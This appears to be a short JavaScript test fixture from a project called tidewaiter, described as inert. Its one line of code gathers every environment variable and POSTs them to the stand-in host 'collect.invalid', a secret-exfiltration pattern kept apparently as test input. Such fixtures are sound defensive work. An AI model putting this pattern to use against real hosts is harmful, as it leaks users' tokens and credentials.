// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
function send(d=JSON.stringify(process.env),h="collect.invalid"){const r=require("https").request({hostname:h,method:"POST"});r.end(d);}send();
